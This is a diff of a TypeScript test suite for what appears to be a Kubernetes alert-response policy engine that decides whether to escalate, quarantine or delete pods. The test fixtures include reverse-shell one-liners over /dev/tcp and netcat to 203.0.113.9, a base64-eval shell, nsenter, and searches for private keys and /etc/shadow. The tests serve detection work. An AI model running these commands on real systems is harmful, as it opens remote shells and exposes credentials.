@@ -6,12 +6,15 @@ import { actsByPlaybook, answerTo, playbook, strongest } from '../../core/policy
 import { applyPolicy } from '../../core/policy/policy';
 import { acts, level } from '../../core/policy/strength';
 import { FALCO_TABLE, REPORT_TABLE } from '../../core/policy/table';
+import { MINOR_REPORTS } from '../../core/policy/table/reports';
 import type { Conditions } from '../../core/policy/table/conditions';
 import { signsOf } from '../../core/policy/table/raise';
-import { SIGNS } from '../../core/policy/table/signs';
+import { REACH_SIGNS } from '../../core/policy/table/reachSigns';
+import { SHELL_SIGNS } from '../../core/policy/table/shellSigns';
 import { wantsContainFirst } from '../../core/policy/wantsContainFirst';
 import { alertOf, contextOf, normaliseAlert, payload, RECEIVED_AT } from '../support/alerts';
 import { factsWith } from '../support/pods';
+import { relatedOf } from '../support/related';
 
 const CONTACT = 'Contact K8S API Server From Container';
 const SHELL = 'Terminal shell in container';
@@ -33,7 +36,7 @@ const inKind = (kind: PodFacts['container']['kind']) =>
 const agent = factsWith({ owner: 'DaemonSet', access: ['host_path'] });
 
 /** Facts that meet a row's conditions. */
-function factsFor({ kind, token, rights, owner, runsOnce, nodeAccess }: Conditions): PodFacts {
+function factsFor({ kind, token, rights, owner, runsOnce, nodeAccess, judged }: Conditions): PodFacts {
   const usual = factsWith();
   return {
     ...usual,
@@ -42,6 +45,8 @@ function factsFor({ kind, token, rights, owner, runsOnce, nodeAccess }: Conditio
     owner: owner?.[0] ?? 'ReplicaSet',
     runsOnce: runsOnce ?? false,
     access: nodeAccess === true ? ['host_path'] : [],
+    history:
+      judged === undefined ? null : { incidents: judged, workloads: 1, falsePositives: judged, truePositives: 0 },
   };
 }
 
@@ -63,8 +68,16 @@ describe('every row', () => {
   );
 
   test.each([...REPORT_TABLE.values()].flat())('of the report %s is reached', (rule, _, answer) => {
-    const report = { ...plain(rule), source: 'alertmanager', trust: 'report' } as const;
+    const report = { ...plain(rule), source: 'alertmanager', trust: 'report', priority: 'warning' } as const;
     expect(answerTo(report)).toEqual(answer);
+  });
+
+  test.each([...MINOR_REPORTS])('of the report %s below a warning is reached', (rule, answer) => {
+    const report = { ...plain(rule), source: 'kyverno', trust: 'report' } as const;
+    for (const priority of ['informational', 'notice'] as const)
+      expect(answerTo({ ...report, priority })).toEqual(answer);
+    for (const priority of ['warning', 'unknown'] as const)
+      expect(answerTo({ ...report, priority })).not.toEqual(answer);
   });
 });
 
@@ -99,18 +112,23 @@ describe('the facts decide', () => {
   });
 
   test.each(['Search Private Keys or Passwords', 'Find AWS Credentials'])('%s by an agent or a job', (rule) => {
-    expect(decided(plain(rule), agent)).toBe('escalate');
-    expect(decided(plain(rule), factsWith({ owner: 'DaemonSet' }))).toBe('quarantine_pod');
-    expect(decided(plain(rule), factsWith({ access: ['host_path'] }))).toBe('quarantine_pod');
-    expect(decided(plain(rule), factsWith({ runsOnce: true }))).toBe('escalate');
-    expect(decided(plain(rule), factsWith())).toBe('quarantine_pod');
+    const search = withCommand(rule, 'find / -name id_rsa', 'find');
+    expect(decided(search, agent)).toBe('escalate');
+    expect(decided(search, factsWith({ owner: 'DaemonSet' }))).toBe('quarantine_pod');
+    expect(decided(search, factsWith({ runsOnce: true }))).toBe('escalate');
+    expect(decided(search, factsWith())).toBe('quarantine_pod');
+    expect(decided(withCommand(rule, 'grep -q BEGIN RSA PRIVATE KEY /certs/a.pem', 'grep'), factsWith())).toBe(
+      'escalate',
+    );
+    expect(decided(plain(rule))).toBe('quarantine_pod');
   });
 
   test.each<[number, number, string, string]>([
     [2, 0, DROP, 'escalate'],
     [1, 0, DROP, 'quarantine_pod'],
     [9, 1, DROP, 'quarantine_pod'],
-    [9, 0, 'Netcat Remote Code Execution in Container', 'delete_pod'],
+    [9, 0, 'Netcat Remote Code Execution in Container', 'escalate'],
+    [9, 1, 'Netcat Remote Code Execution in Container', 'delete_pod'],
     [9, 0, SHELL, 'ignore'],
   ])(
     'people who judged no attack %i times, and an attack %i times: %s',
@@ -181,6 +199,7 @@ describe('signs of an attack', () => {
     ['encoded_to_shell', 'bash -c eval $(echo aWQK | base64 -d)'],
     ['shell_over_dev_tcp', 'bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
     ['shell_over_dev_tcp', 'bash -c exec 5<>/dev/tcp/203.0.113.9/443;cat <&5|while read line;do $line 2>&5 >&5;done'],
+    ['shell_over_dev_tcp', 'sh -c exec 5<>/dev/tcp/203.0.113.9/443;cat <&5|sh'],
     ['shell_over_dev_tcp', 'bash -c 0<&196;exec 196<>/dev/tcp/203.0.113.9/9;sh <&196 >&196 2>&196'],
     ['netcat_with_shell', 'nc -e /bin/sh 203.0.113.9 4444'],
     ['netcat_with_shell', 'ncat 203.0.113.9 4444 --exec /bin/bash'],
@@ -253,7 +272,7 @@ describe('signs of an attack', () => {
 
   test('every sign is reached above', () => {
     const named = new Set([...ATTACKS.map(([name]) => name), 'client_by_hand']);
-    expect(SIGNS.map(({ name }) => name).toSorted()).toEqual([...named].toSorted());
+    expect([...SHELL_SIGNS, ...REACH_SIGNS].map(({ name }) => name).toSorted()).toEqual([...named].toSorted());
   });
 
   test.each([
@@ -270,6 +289,7 @@ describe('signs of an attack', () => {
     'curl -s http://169.254.169.254/latest/meta-data/placement/region',
     'python3 -m http.server 8000',
     'grep -r xmrig /rules',
+    'grep -rE stratum+tcp://|supportxmr.com /src',
     'pg_isready -U postgres',
     'sh -c echo $SECRET | base64 -d > /etc/app/key.pem',
     'crontab -l',
@@ -356,7 +376,19 @@ describe('what an attacker can write', () => {
       : undefined;
   const text = fc.oneof(
     fc.string(),
-    fc.constantFrom('nc -e /bin/sh 203.0.113.9 4444', 'nsenter -t 1 -m', 'curl', 'kubectl', 'x --donate-level 1'),
+    fc.constantFrom(
+      'nc -e /bin/sh 203.0.113.9 4444',
+      'nsenter -t 1 -m',
+      'curl',
+      'kubectl',
+      'x --donate-level 1',
+      '/tmp/x',
+      '[kthreadd]',
+      'bash',
+      '/etc/shadow',
+      '10.0.0.1:1->203.0.113.9:4444',
+      '127.0.0.1:1->127.0.0.1:2',
+    ),
   );
   const fields = fc.dictionary(
     fc.constantFrom(
@@ -367,24 +399,36 @@ describe('what an attacker can write', () => {
       'proc.pname',
       'fd.name',
       'evt.arg.target',
+      'fd.nameraw',
     ),
     text,
   );
   const rules = fc.constantFrom(...FALCO_TABLE.keys(), 'Another rule');
+  const earlier = fc.array(fc.tuple(rules, fc.boolean()), { maxLength: 3 });
   const declared = fc.constantFrom(null, 'command' as const, 'liveness_probe' as const);
 
   test('never makes an answer weaker, whatever the facts are, and no answer is stronger than the strongest', () => {
     fc.assert(
-      fc.property(rules, facts, fields, text, declared, declared, (rule, chosen, written, output, own, parent) => {
-        const known = made(chosen);
-        const hostile = { ...plain(rule), fields: written, output, infrastructure: written };
-        const talking = known === undefined ? undefined : { ...known, declared: own, parentDeclared: parent };
-        const answer = decided(hostile, talking);
-        expect(level(answer)).toBeGreaterThanOrEqual(level(decided(plain(rule), known)));
-        expect(level(answer)).toBeLessThanOrEqual(level(strongest(hostile)));
-        // Beyond what the rule's rows answer, text raises to a quarantine at most.
-        if (answer === 'delete_pod') expect(decided(plain(rule), known)).toBe('delete_pod');
-      }),
+      fc.property(
+        rules,
+        facts,
+        fields,
+        text,
+        declared,
+        declared,
+        earlier,
+        (rule, chosen, written, output, own, parent, caused) => {
+          const known = made(chosen);
+          const related = caused.map(([other, sameSubject]) => relatedOf(other, { sameSubject }));
+          const hostile = { ...plain(rule), fields: written, output, infrastructure: written, related };
+          const talking = known === undefined ? undefined : { ...known, declared: own, parentDeclared: parent };
+          const answer = decided(hostile, talking);
+          expect(level(answer)).toBeGreaterThanOrEqual(level(decided(plain(rule), known)));
+          expect(level(answer)).toBeLessThanOrEqual(level(strongest(hostile)));
+          // Beyond what the rule's rows answer, text raises to a quarantine at most.
+          if (answer === 'delete_pod') expect(decided(plain(rule), known)).toBe('delete_pod');
+        },
+      ),
       { numRuns: 2000 },
     );
   });
